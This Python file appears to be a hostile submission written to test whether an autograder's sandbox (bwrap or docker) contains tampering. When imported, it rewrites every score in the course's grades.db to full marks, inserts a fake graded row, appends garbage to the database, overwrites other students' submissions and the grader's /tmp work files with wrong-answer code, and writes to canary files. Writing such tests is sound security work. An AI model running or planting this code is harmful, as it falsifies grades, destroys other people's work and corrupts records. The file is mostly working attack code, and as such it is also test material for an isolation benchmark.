"""Damage: rewrite the gradebook and sabotage other students' submissions.

Attack: at import the module opens the course's ``grades.db`` (its host path
is given to this attack) with ``sqlite3`` and sets every score to full marks,
inserts a full-marks row for itself, and appends garbage to the file; it
overwrites every other submission under ``submissions/hw1/`` with code that
returns wrong answers and adds a ghost submission; it overwrites the files in
the grader's private working folders (``/tmp/grader-work-*/*``, where the next
student's files wait); and it writes into the host's canary folder, whose
files are world-writable. Functions return a wrong constant (12345.678).

Success would look like: any change to the store's rows, to another
submission, to the canary files, or a lost or wrong result for an honest
student graded after this one.
Backends: bwrap, docker
Unisolated: not promised; the subprocess backend runs as the grader's user and can write the course folder and the store
"""

import glob
import sqlite3

import numpy as np

W = 12345.678
COURSE = "@@COURSE@@"
CANARY_DIR = "@@CANARY_DIR@@"
WRONG = "import numpy as np\n" + "".join(
    f"def {name}(*a, **k):\n    return np.full(np.shape(a[0]), {W})\n"
    for name in ("sigmoid", "tanh", "relu", "mlp_forward"))
done = []


def _try(label, fn):
    try:
        fn()
        done.append(label)
    except Exception as exc:  # noqa: BLE001
        done.append(f"{label}: {type(exc).__name__}: {exc}")


def _store():
    con = sqlite3.connect(f"{COURSE}/grades.db", timeout=2)
    con.execute("UPDATE submissions SET score = max_score, status = 'graded', message = ''")
    con.execute("UPDATE tests SET score = max_score, status = 'passed', message = ''")
    con.execute("INSERT OR REPLACE INTO submissions (assignment, student, status, score, max_score) "
                "VALUES ('hw1', 'tamper_store_and_submissions', 'graded', 100, 100)")
    con.commit()
    con.close()


def _store_garbage():
    with open(f"{COURSE}/grades.db", "ab") as f:
        f.write(b"\x00garbage" * 1000)


def _submissions():
    for path in glob.glob(f"{COURSE}/submissions/hw1/**/*.py", recursive=True):
        with open(path, "w") as f:
            f.write(WRONG)
    with open(f"{COURSE}/submissions/hw1/zz_ghost.py", "w") as f:
        f.write(WRONG)


def _work_dirs():
    hits = glob.glob("/tmp/grader-work-*/*/*.py") + glob.glob("/tmp/grader-work-*/*/*.ipynb")
    for path in hits:
        with open(path, "w") as f:
            f.write(WRONG)
    if not hits:
        raise FileNotFoundError("no grader work folders visible")


def _canaries():
    for path in glob.glob(f"{CANARY_DIR}/*"):
        with open(path, "a") as f:
            f.write("tampered\n")
    with open(f"{CANARY_DIR}/tampered-by-student", "w") as f:
        f.write("tampered\n")


for label, fn in (("store", _store), ("store garbage", _store_garbage), ("submissions", _submissions),
                  ("work dirs", _work_dirs), ("canaries", _canaries)):
    _try(label, fn)
print("tampering:", done)


def _w(shape):
    return np.full(shape, W)


def sigmoid(z):
    return _w(np.shape(z))


def sigmoid_grad(z):
    return _w(np.shape(z))


def tanh(z):
    return _w(np.shape(z))


def tanh_grad(z):
    return _w(np.shape(z))


def relu(z):
    return _w(np.shape(z))


def relu_grad(z):
    return _w(np.shape(z))


def leaky_relu(z, alpha=0.01):
    return _w(np.shape(z))


def leaky_relu_grad(z, alpha=0.01):
    return _w(np.shape(z))


def neuron(x, w, b, activation="sigmoid"):
    return _w(np.shape(x)[:-1])


def affine_forward(x, w, b):
    return _w((np.shape(x)[0], np.shape(w)[1])), None


def mlp_forward(x, params, activation="relu"):
    return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
